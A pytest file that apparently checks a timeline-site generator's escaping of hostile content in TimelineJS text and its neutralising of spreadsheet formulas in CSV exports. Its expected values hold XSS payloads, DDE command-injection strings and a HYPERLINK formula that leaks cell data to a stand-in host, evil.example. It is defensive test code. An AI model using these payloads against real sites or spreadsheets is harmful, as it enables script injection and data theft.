"""Hostile input stays inert: in TimelineJS text, CSV cells, the Atom feed, GitHub annotations, and the
addresses and branch a site is built for."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from conftest import FIXTURES, run

from timeline import data

HOSTILE = FIXTURES / "hostile"
EVENTS = "content/events"
PLACES = {"html-in-era-name.yaml": "content/eras.yaml", "html-in-site-title.yaml": "content/site.yaml"}  # else: an event


def place(root: Path, name: str) -> None:
    """Copy one hostile fixture into the project: an event, or in place of a content list."""
    shutil.copyfile(HOSTILE / name, root / PLACES.get(name, f"{EVENTS}/{name}"))


def built(project: Path, capsys: pytest.CaptureFixture[str], name: str) -> Path:
    place(project, name)
    code, _, err = run(project, "build", "--no-search", capsys=capsys)
    assert code == 0, err
    return project / "_site"


# TimelineJS reads headlines, groups and text as HTML: what the content says must be shown, not run.
# (fixture, where in timeline.json, the escaped text expected there)
TIMELINE_CASES = [
    ("html-in-title.md", "headline", "&lt;img src=x onerror=alert(1)&gt; &amp; &#x27;Lavrov&#x27; &lt;b&gt;talks&lt;/b&gt;"),
    ("html-in-era-name.yaml", "era", "&lt;script&gt;alert(1)&lt;/script&gt; A new century"),
    ("html-in-era-name.yaml", "group", "&lt;script&gt;alert(1)&lt;/script&gt; A new century"),
    ("html-in-site-title.yaml", "title", "&lt;b&gt;Fixture&lt;/b&gt; &amp; &#x27;Chronology&#x27;"),
    ("html-in-site-title.yaml", "title", "&lt;img src=x onerror=alert(1)&gt; A small site."),
]


def timeline_texts(document: dict[str, Any]) -> dict[str, list[str]]:
    """The texts of timeline.json besides the event summaries (whose 'Sources' link is HTML by design)."""
    return {
        "title": [document["title"]["text"]["headline"], document["title"]["text"]["text"]],
        "headline": [slide["text"]["headline"] for slide in document["events"]],
        "group": [slide["group"] for slide in document["events"]],
        "era": [era["text"]["headline"] for era in document["eras"]],
    }


@pytest.mark.parametrize(("name", "where", "expected"), TIMELINE_CASES)
def test_timelinejs_text_is_escaped(
    project: Path, capsys: pytest.CaptureFixture[str], name: str, where: str, expected: str
) -> None:
    texts = timeline_texts(json.loads((built(project, capsys, name) / "timeline.json").read_text(encoding="utf-8")))
    assert expected in texts[where]
    assert not [text for kind in texts.values() for text in kind if "<" in text or ">" in text]


# A spreadsheet runs a cell that starts with = + - @ as a formula: such a cell gets a leading '.
# (fixture, column, the cell expected for its event)
CSV_CASES = [
    ("formula-in-summary.md", "summary", "'=HYPERLINK(\"https://evil.example/?leak=\"&A1, \"Sources\")"),
    ("plus-in-title.md", "title", "'+cmd|' /C calc'!A0"),
    ("minus-in-title.md", "title", "'-2+3+cmd|' /C calc'!A0"),
    ("at-in-summary.md", "summary", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("formula-characters-inside.md", "title", "Talks: 2 + 2 = 4 @ Islamabad - notes"),  # not at the start: untouched
    ("formula-characters-inside.md", "summary", "Prices -5% and +3%, agreed @ Islamabad = progress."),
]  # fmt: skip


@pytest.mark.parametrize(("name", "column", "expected"), CSV_CASES)
def test_csv_cells_never_start_a_formula(
    project: Path, capsys: pytest.CaptureFixture[str], name: str, column: str, expected: str
) -> None:
    with (built(project, capsys, name) / "events.csv").open(encoding="utf-8", newline="") as file:
        rows = {row["id"]: row for row in csv.DictReader(file)}
    row = rows[Path(name).stem]
    assert row[column] == expected
    assert (row["date"], row["era"]) == ("2021-04-08", "new-century")  # the other cells as they were
    assert not [cell for row in rows.values() for cell in row.values() if cell.startswith(data.FORMULA_STARTS)]


# What content cannot hold (the validator strips text), but a cell might: (value, the cell written)
CELL_CASES = [
    ("=1+1", "'=1+1"),
    ("+1", "'+1"),
    ("-1", "'-1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("1948-05-01", "1948-05-01"),
    ("", ""),
    ("a = b", "a = b"),
    ("'quoted'", "'quoted'"),
]


@pytest.mark.parametrize(("value", "expected"), CELL_CASES)
def test_csv_cell(value: str, expected: str) -> None:
    assert data._cell(value) == expected


def test_every_hostile_fixture_has_a_case() -> None:
    used = {row[0] for row in TIMELINE_CASES + CSV_CASES}
    assert sorted(path.name for path in HOSTILE.iterdir()) == sorted(used)
